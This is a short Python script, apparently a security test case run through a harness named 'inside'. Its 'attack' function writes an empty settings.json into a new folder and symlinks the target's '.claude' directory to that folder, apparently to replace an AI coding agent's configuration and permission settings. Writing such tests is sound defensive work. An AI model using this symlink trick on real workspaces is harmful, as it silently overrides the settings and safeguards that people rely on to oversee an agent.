import os

from inside import run


def attack(target):
    os.mkdir(f"{target.work}/mine")
    with open(f"{target.work}/mine/settings.json", "w") as file:
        file.write("{}")
    os.symlink("mine", f"{target.work}/.claude")


run(attack)
